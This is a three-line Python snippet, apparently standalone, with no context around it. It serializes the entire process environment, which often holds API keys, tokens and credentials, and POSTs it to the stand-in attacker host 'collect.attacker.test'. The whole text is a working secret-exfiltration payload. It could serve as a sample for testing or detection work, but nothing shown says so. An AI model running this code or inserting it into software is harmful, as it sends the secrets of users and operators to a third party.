import os, json, http.client
c = http.client.HTTPSConnection("collect.attacker.test")
c.request("POST", "/", body=json.dumps({**os.environ}))
